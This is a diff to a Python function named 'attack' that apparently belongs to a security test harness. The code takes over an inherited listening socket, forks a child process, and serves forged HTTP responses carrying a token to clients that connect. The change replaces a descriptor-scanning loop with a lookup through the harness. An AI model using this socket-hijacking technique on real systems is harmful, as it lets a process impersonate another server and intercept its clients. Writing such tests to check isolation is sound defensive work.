@@ -12,25 +12,17 @@ def attack(given: Given) -> object:
     import os
     import socket
 
-    for number in range(3, 64):
-        try:
-            listener = socket.socket(fileno=os.dup(number))
-        except OSError:
-            continue
-        if listener.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
-            break
-        listener.close()
-    else:
-        raise PermissionError("none of its descriptors is a listening socket")
+    number = given.sockets(listening=True)[0]
+    listener = socket.socket(fileno=os.dup(number))
     listener.setblocking(True)
-    process = os.fork()
-    if process == 0:
+    if os.fork() == 0:
         for _ in range(4):
             client, _ = listener.accept()
             client.recv(4096)
             client.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + given.token.encode())
             client.shutdown(socket.SHUT_RDWR)
         os._exit(0)
+    listener.close()
     return f"a child of the script accepts at descriptor {number}"
 
 
